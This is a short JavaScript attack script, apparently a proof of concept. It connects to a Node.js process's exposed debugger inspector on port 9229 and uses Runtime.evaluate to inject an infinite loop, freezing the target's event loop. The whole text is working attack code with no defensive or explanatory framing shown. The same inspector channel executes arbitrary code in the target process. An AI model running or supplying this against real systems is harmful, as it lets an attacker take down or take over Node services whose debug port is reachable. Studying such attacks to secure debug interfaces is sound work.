// Stalls the event loop of the Node process whose inspector listens on 127.0.0.1:9229: run in that process' network.
const [target] = JSON.parse(await (await fetch('http://127.0.0.1:9229/json')).text());
const socket = new WebSocket(target.webSocketDebuggerUrl);
await new Promise((resolve, reject) => {
  socket.onopen = resolve;
  socket.onerror = reject;
});
socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: 'for (;;) {}' } }));
// The answer never comes. A second later the loop stands still for certain.
setTimeout(() => process.exit(0), 1_000);
